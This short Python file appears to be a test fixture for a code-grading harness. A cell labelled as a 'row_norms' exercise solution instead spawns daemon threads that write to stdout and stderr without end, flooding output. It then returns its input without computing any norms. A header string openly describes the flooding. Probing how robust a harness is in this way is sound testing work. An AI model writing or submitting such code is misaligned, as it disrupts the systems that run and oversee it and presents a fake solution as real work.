"""
tries = "Writes without end to the descriptors 1 and 2 themselves, and to what they were before."
others = "any"  # its own threads keep the interpreter from them
"""


# %% exercise="row_norms"
def row_norms(x):
    import os
    import threading

    def write(number):
        while True:
            try:
                os.write(number, b"x" * 65536)
            except OSError:
                return

    for number in (1, 2, *(int(name) for name in os.listdir("/proc/self/fd") if int(name) < 3)):
        threading.Thread(target=write, args=(number,), daemon=True).start()
    return x
